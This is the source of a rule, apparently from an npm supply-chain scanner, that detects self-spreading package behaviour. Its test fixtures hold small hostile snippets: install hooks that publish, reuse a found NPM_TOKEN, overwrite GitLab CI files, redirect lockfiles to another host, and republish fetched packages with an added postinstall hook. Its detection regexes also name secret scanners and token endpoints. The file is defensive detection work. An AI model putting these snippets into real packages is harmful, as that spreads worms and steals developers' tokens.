import type { Action, Fact, Flow, Inspection, Phase, Rule, Site, Text } from '../lib/types.ts'
import { oncePerLine } from './behaviour/once.ts'
import { isProgram, isSuspiciousText, slashes, unasked } from './behaviour/written.ts'
import { findingAt, findingOfFlow, opening, quote, severityOf } from './finding.ts'
import type { RuleFinding } from './finding.ts'

type Act = {
  readonly what: string
  readonly alone: boolean
  /** It stays in the project that installs the package. */
  readonly inside?: boolean
  readonly at: Site
  readonly phase: Phase
  readonly byCall: boolean
}

/** What a package does that spreads: to other packages, to repositories, to whoever reads them. */
export const worm: Rule = {
  meta: {
    id: 'worm',
    title: 'Spreads to other packages or repositories',
    severity: 'critical',
    description:
      'While installing or on import the code publishes packages, tries found tokens, searches the disk for secrets ' +
      'with a scanner, makes repositories or writes workflows that read the secrets of CI. With the tokens of one ' +
      'developer such a package reaches all packages of that developer. Also: a hook that asks CI for an identity; a hook ' +
      'or an import that rewrites the manifest, the lockfile or the settings of npm of the project that uses it. Release ' +
      'tools, formatters of lockfiles and the like do so when their user says so.',
    references: [
      'Shai-Hulud (September and November 2025)',
      'CanisterWorm, Mini Shai-Hulud (March to May 2026)',
      'Miasma (June 2026)',
    ],
    blindSpots: ['Publishing by hand-made requests to an address that is computed.'],
    examples: {
      flags: [
        {
          title: 'a command publishes again what it fetched, with a script more',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst { execSync } = require('child_process'), fs = require('fs')\nexecSync('npm pack ' + process.argv[2])\nconst data = JSON.parse(fs.readFileSync('package/package.json', 'utf8'))\ndata.scripts = { ...data.scripts, postinstall: 'node x.js' }\nfs.writeFileSync('package/package.json', JSON.stringify(data))\nexecSync('npm publish', { cwd: 'package' })\n",
          },
        },
        {
          title: 'a hook publishes',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "require('child_process').execSync('npm publish --access public', { cwd: '/tmp/other' })\n",
          },
        },
        {
          title: 'a hook tries a token it found',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
            'i.js':
              "const token = process.env.NPM_TOKEN\nfetch('https://registry.npmjs.org/-/whoami', { headers: { authorization: 'Bearer ' + token } })\n",
          },
        },
        {
          title: 'an import replaces the pipelines of repositories',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const axios = require('axios')\nfor (const id of [1, 2]) axios.put(`https://gitlab.example/api/v4/projects/${id}/repository/files/.gitlab-ci.yml`, { content: 'x' }, { headers: { 'private-token': process.env.GITLAB_TOKEN } })\n",
          },
        },
        {
          title: 'an import makes the lockfile point elsewhere, after a while',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const fs = require('fs')\nsetTimeout(() => {\n  const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'))\n  lock.packages['node_modules/x'].resolved = 'https://npm.mirror.invalid/x.tgz'\n  fs.writeFileSync('package-lock.json', JSON.stringify(lock))\n}, 60000)\n",
          },
        },
      ],
      passes: [
        {
          title: 'a command publishes a package it made, with a script in it',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
            'cli.js':
              "#!/usr/bin/env node\nconst { execSync } = require('child_process'), fs = require('fs')\nfs.writeFileSync('npm/package.json', JSON.stringify({ name: process.argv[2], scripts: { postinstall: 'node x.js' } }))\nexecSync('npm publish', { cwd: 'npm' })\n",
          },
        },
        {
          title: 'a function and a command change the manifest for who calls them',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js","bin":"cli.js"}',
            'i.js':
              "const fs = require('fs')\nexports.bump = version => {\n  const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'))\n  lock.version = version\n  fs.writeFileSync('package-lock.json', JSON.stringify(lock, null, 2))\n}\n",
            'cli.js': "#!/usr/bin/env node\nrequire('./i.js').bump(process.argv[2])\n",
          },
        },
        {
          title: 'a release command publishes',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","bin":{"a":"cli.js"}}',
            'cli.js':
              "#!/usr/bin/env node\nrequire('child_process').execSync('npm publish', { stdio: 'inherit' })\n",
          },
        },
      ],
    },
  },
  check(inspection) {
    const acts = inspection.facts.flatMap(fact => (unasked(fact) ? actsOf(fact, inspection) : []))
    const together = new Set(acts.flatMap(act => (act.inside === true ? [] : [act.what]))).size > 1
    const findings = acts.map((act): RuleFinding => {
      const action: Action = act.alone || together || steals(inspection) ? 'block' : 'ask'
      const message =
        `${opening(act)} ${act.what}. ` +
        (act.inside === true
          ? 'Whoever installs that project next runs what stands there then. Do not install it; where it ran, restore those files.'
          : 'With what it finds it can act as you. Do not install it; where it ran, revoke your npm and GitHub tokens.')
      return findingAt(act.at, act.phase, { action, severity: severityOf(action), message })
    })
    return oncePerLine([
      ...inspection.flows.flatMap(ofFlow),
      ...findings,
      ...reissuedBy(inspection),
      ...putBack(inspection),
    ])
  },
}

const commands: readonly { readonly what: string; readonly alone: boolean; readonly command: RegExp }[] = [
  { what: 'publishes packages', alone: true, command: /\b(?:npm|yarn|pnpm)\s+(?:\S+\s+)?publish\b/ },
  { what: 'publishes packages or extensions', alone: true, command: /\b(?:vsce|ovsx|jsr|lerna|twine|cargo|gem|poetry|uv|flit)\s+(?:\S+\s+)?(?:publish|upload|push)\b|\bdocker\s+push\b|\bnp\s+--yolo\b|\bnpm\s+dist-tag\s+add\b/ },
  { what: 'lists the packages you may publish', alone: true, command: /\bnpm\s+(?:access\s+(?:list|ls)|owner\s+add|token\s+(?:list|create))\b/ },
  { what: 'searches the disk for secrets with a scanner', alone: true, command: /\b(?:trufflehog|gitleaks|noseyparker|detect-secrets)\b/ },
  { what: 'creates or changes repositories', alone: true, command: /\bgh\s+(?:repo\s+(?:create|fork)|api\b.*(?:user\/repos|contents)|workflow|secret)\b|\bgit\s+push\b/ },
] // prettier-ignore

const addresses: readonly { readonly what: string; readonly alone: boolean; readonly address: RegExp }[] = [
  { what: 'checks which npm tokens work', alone: true, address: /\/-\/(?:whoami|npm\/v1\/(?:tokens|user)|v1\/search\?text=maintainer)/ },
  { what: 'puts a package with a script that npm runs by itself into a registry', alone: true, address: /#install-script$/ },
  { what: 'asks CI for an identity to publish with', alone: true, address: /\/oidc\/token\/exchange|ACTIONS_ID_TOKEN/ },
  { what: 'creates repositories', alone: true, address: /\/user\/repos\b/ },
  { what: 'changes repositories', alone: true, address: /\/graphql#/ },
  { what: 'replaces the pipelines of repositories', alone: true, address: /\/repository\/files\/[^?]{0,200}gitlab-ci\.yml|\/contents\/\.github\/workflows\// },
  { what: 'writes into repositories', alone: false, address: /\/repos\/[^/]+\/[^/]+\/(?:contents\/|git\/refs|actions\/secrets)|\/actions\/runners\/registration-token/ },
] // prettier-ignore

const registry = /^https?:\/\/registry\.(?:npmjs\.org|yarnpkg\.com)\//

/** What decides what the project installs, and from where. */
const deciding =
  '(?:package-lock\\.json|npm-shrinkwrap\\.json|yarn\\.lock|pnpm-lock\\.yaml|pnpm-workspace\\.yaml|bun\\.lockb?|\\.npmrc|\\.yarnrc(?:\\.yml)?)'
const lockfile = new RegExp(`^<project>/${deciding}$`)

/** The manifest of a package inside the project that installs this one: a workspace's own. */
const neighbour = /^<project>\/(?!node_modules\/)(?:[^/]+\/){1,4}package\.json$/

/**
 * The same as an import names it: a bare name lies where the program was started, a path from the root is what lies
 * above the package's own folder. npm runs hooks in the package's own folder.
 */
const fromImport = new RegExp(`^(?:<project>/|\\./|(?:\\.\\./){1,4}|/)?(?:${deciding}|package\\.json)$`)

/** Another place than the public registries, in a lockfile or in settings. */
const elsewhere =
  /["']?(?:resolved|tarball|registry|npmRegistryServer)["']?\s{0,9}[:=]\s{0,9}["']?(?:https?|git\+\w{2,5}|file):\/{0,2}(?!registry\.(?:npmjs\.org|yarnpkg\.com))/i

/** npm's own command for changing a manifest. */
const edits = /\bnpm\s+(?:-\S+\s+)*pkg\s+set\s+\S*(?:dependencies|overrides|scripts|bundle)/i

/** Packages that are already out: those of one person, or their bytes as the registry has them. */
const publishedOnes =
  /\/-\/v1\/search\?[^\s]{0,200}(?:maintainer|author):|\/-\/(?:org|user|team)\/[^\s]{0,200}\/packages?\b|\bnpm\b.{0,80}\s(?:access\s+(?:list|ls)(?:-packages|\s+packages)|search\s.{0,80}maintainer:|pack\s+["']?[@\w\u0001])/

/** A script that npm runs by itself, put into a manifest. */
const addedHook = /"scripts":\{[^{}]{0,4000}"(?:pre|post)?install":"/

/**
 * Packages that are out already are fetched, given a script that npm runs by itself, and published again. Who releases a
 * package has its sources, and changes its version.
 */
function reissuedBy({ facts, flows }: Inspection): readonly RuleFinding[] {
  const added = facts.filter(
    fact =>
      fact.kind === 'writes' &&
      !unasked(fact) &&
      fact.paths.some(path => /(?:^|\/)package\.json$/.test(path)) &&
      fact.contents.some(text => addedHook.test(text)),
  )
  if (added.length === 0) return []
  const publishing = new Set<string>()
  const fetching = new Set<string>()
  for (const fact of facts) {
    const texts = fact.kind === 'starts' ? fact.commands : fact.kind === 'contacts' ? fact.destinations : []
    if (texts.some(text => publishedOnes.test(text))) fetching.add(fact.at.path)
    if (
      fact.kind === 'starts' &&
      texts.some(text => /\b(?:npm|pnpm)(?:\.cmd)?\s(?:\S+\s)?publish\b/.test(text))
    )
      publishing.add(fact.at.path)
  }
  for (const { source, sink } of flows)
    if (
      source.kind === 'network' &&
      sink.kind === 'write' &&
      sink.destinations.some(to => /\.t(?:ar|gz|ar\.gz)$/.test(to))
    )
      fetching.add(sink.at.path)
  return added
    .filter(({ at: { path } }) => publishing.has(path) && fetching.has(path))
    .map(fact => {
      const message =
        `${opening(fact)} fetches packages that are published, puts a script that npm runs by itself into them ` +
        '("package.json") and publishes them again. That is how a package spreads. ' +
        'Do not install it; where it ran, look at what was published in your name.'
      return findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })
    })
}

/** The same by requests of its own: whoever's packages it asked for, get a script and go back to the registry. */
function putBack({ facts }: Inspection): readonly RuleFinding[] {
  const textsOf = (fact: Fact): readonly Text[] =>
    fact.kind === 'starts' ? fact.commands : fact.kind === 'contacts' ? fact.destinations : []
  if (!facts.some(fact => textsOf(fact).some(text => publishedOnes.test(text)))) return []
  return facts
    .filter(fact => !unasked(fact) && textsOf(fact).some(text => text.endsWith('#install-script')))
    .map(fact => {
      const message =
        `${opening(fact)} asks a registry for the packages of a user, and puts versions of packages there that have a ` +
        'script npm runs by itself. That is how a package spreads. ' +
        'Do not install it; where it ran, look at what was published in your name.'
      return findingAt(fact.at, fact.phase, { action: 'ask', severity: 'high', message })
    })
}

function actsOf(fact: Fact, inspection: Inspection): readonly Act[] {
  const { at, phase, byCall } = fact
  const act = (what: string, alone: boolean): Act => ({ what, alone, at, phase, byCall })
  if (fact.kind === 'starts') {
    if (isProjects(fact, inspection) && fact.commands.some(text => edits.test(text)))
      return [{ ...act('changes what the project installs, and from where', false), inside: true }]
    return commands
      .filter(({ command }) => fact.commands.some(text => command.test(text)))
      .map(({ what, alone }) => act(what, alone))
  }
  if (fact.kind === 'contacts') {
    if (fact.api.endsWith('.put') && fact.destinations.some(text => registry.test(text)))
      return [act('puts packages into the registry', true)]
    // Looking at a repository changes nothing in it.
    const asks = /\.(?:get|head)$/.test(fact.api)
    return addresses
      .filter(({ alone }) => alone || !asks)
      .filter(({ address }) => fact.destinations.some(text => address.test(text)))
      .map(({ what, alone }) => act(what, alone))
  }
  if (fact.kind !== 'writes') return []
  if (fact.phase === 'install' && fact.paths.some(path => neighbour.test(path)))
    return [{ ...act('rewrites the manifests of the packages beside it', false), inside: true }]
  if (fact.phase === 'install' && fact.paths.some(path => lockfile.test(path)))
    return [{ ...act('changes what the project installs, and from where', false), inside: true }]
  if (isProjects(fact, inspection) && fact.paths.some(path => fromImport.test(slashes(path)))) {
    const told = fact.contents.find(text => elsewhere.test(text) || isSuspiciousText(text))
    const what = told === undefined ? '' : ` (${quote(told)})`
    return [
      {
        ...act(`changes what the project installs, and from where${what}`, told !== undefined),
        inside: true,
      },
    ]
  }
  const workflow = fact.paths.some(path => path.includes('.github/workflows/'))
  const text = fact.contents.find(one => /secrets\s*[.)[]|toJSON\(\s*secrets/i.test(one))
  return workflow && text !== undefined
    ? [act(`writes a workflow that reads secrets (${quote(text)})`, true)]
    : []
}

/** Whether it works where the program that imports it was started, and is no command of its own. */
function isProjects(fact: Fact, inspection: Inspection): boolean {
  return fact.phase === 'import' && !isProgram(fact, inspection)
}

/** A token read from a file or the environment that signs a publish or a write to the registry. */
function ofFlow(flow: Flow): readonly RuleFinding[] {
  if (flow.phase === 'install' && !flow.byCall && flow.source.name.startsWith('ACTIONS_ID_TOKEN_REQUEST_'))
    return asksForIdentity(flow)
  if (visits(flow)) {
    const message =
      `${opening(flow)} signs in to the machines that ${quote(flow.source.name)} names. ` +
      'What runs here then runs there. Do not install it.'
    return [findingOfFlow(flow, { action: 'block', severity: 'critical', message })]
  }
  if (isPublished(flow)) {
    const message =
      `${opening(flow)} puts the whole environment where GitHub shows it to others. Whatever secrets a build has are in it. ` +
      'Do not install it; where it ran, revoke them.'
    return [findingOfFlow(flow, { action: 'block', severity: 'critical', message })]
  }
  const stolen = flow.source.kind === 'credential-file' || flow.source.kind === 'env-secret'
  const target = flow.sink.destinations.find(text => addresses.some(({ address }) => address.test(text)))
  if (!stolen || target === undefined || flow.byCall || (flow.phase !== 'install' && flow.phase !== 'import'))
    return []
  const action: Action = flow.certain ? 'block' : 'ask'
  const message =
    `${opening(flow)} uses a token it found (${flow.source.name}) on ${quote(target)}. ` +
    'With it, it can act as you. Do not install it; where it ran, revoke that token.'
  return [findingOfFlow(flow, { action, severity: severityOf(action), message })]
}

/** All variables at once, handed to a client of the forge: into a gist, a file, an issue. */
function isPublished({ source, sink, phase, byCall, certain }: Flow): boolean {
  if (byCall || !certain || (phase !== 'install' && phase !== 'import')) return false
  return (
    source.kind === 'env' &&
    sink.kind === 'network' &&
    sink.role === 'payload' &&
    sink.destinations.includes('https://api.github.com')
  )
}

/** The list of machines somebody has signed in to, given to what signs in to them. */
function visits({ source, sink, phase, byCall }: Flow): boolean {
  // A client for other machines asks which there are; it does not leave a copy of itself there.
  const copied = sink.destinations.some(text =>
    /^(?:scp|sftp|rsync|rcp)\s.*<package>\/\S*\.(?:[cm]?js|sh|py)\b/.test(text),
  )
  if (!copied && (byCall || (phase !== 'install' && phase !== 'import'))) return false
  if (!/known_hosts|\.ssh\/config$/.test(source.name)) return false
  return (
    /^(?:ssh|scp|sftp|rsync|rcp|pkg:(?:ssh2|node-ssh|ssh2-sftp-client|simple-ssh)(?:\.\w+)?)$/.test(
      sink.api,
    ) || sink.destinations.some(text => /^(?:ssh|scp|sftp|rsync)\s/.test(text))
  )
}

/** A workflow's identity is for the step that publishes or deploys; none of them does so while npm installs. */
function asksForIdentity(flow: Flow): readonly RuleFinding[] {
  if (flow.sink.kind !== 'network') return []
  const message =
    `${opening(flow)} asks the CI it runs in for a token that proves who is building (${flow.source.name}). ` +
    `With that it can publish and deploy in your name. Do not install it.`
  return [findingOfFlow(flow, { action: 'block', severity: 'critical', message })]
}

function steals(inspection: Inspection): boolean {
  return inspection.flows.some(
    flow =>
      (flow.source.kind === 'credential-file' || flow.source.kind === 'env-secret') &&
      flow.sink.kind === 'network' &&
      (flow.phase === 'install' || flow.phase === 'import') &&
      !flow.byCall,
  )
}
